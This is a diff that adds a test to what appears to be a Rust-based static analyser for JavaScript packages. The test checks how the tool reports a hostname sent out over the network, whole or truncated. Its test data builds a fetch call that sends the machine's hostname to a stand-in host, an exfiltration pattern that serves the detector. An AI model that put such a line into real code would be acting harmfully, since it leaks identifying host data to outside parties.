@@ -479,3 +479,20 @@ fn a_path_that_is_looked_up_is_loaded_where_it_is_required() {
     assert!(loads("require(require.resolve(c))"));
     assert!(!loads("console.log(require.resolve(c))"));
 }
+
+#[test]
+fn a_name_of_which_only_the_beginning_is_sent_is_told_as_such() {
+    let told = |taken: &str| {
+        let code = format!("fetch('https://a.invalid/' + require('os').hostname(){taken});");
+        let found = installed("node", "a.js", &code);
+        let mut flows = found.flows.into_iter();
+        let flow = flows.find(|flow| flow.source == SourceKind::Identity);
+        flow.map(|flow| flow.source_name).unwrap_or_default()
+    };
+    let whole = told("");
+    assert!(!whole.is_empty());
+    let beginning = format!("the first 8 letters of {whole}");
+    assert_eq!(told(".substring(0, 8)"), beginning);
+    assert_eq!(told(".slice(0, 64)"), whole);
+    assert_eq!(told(".slice(8, 16)"), whole);
+}
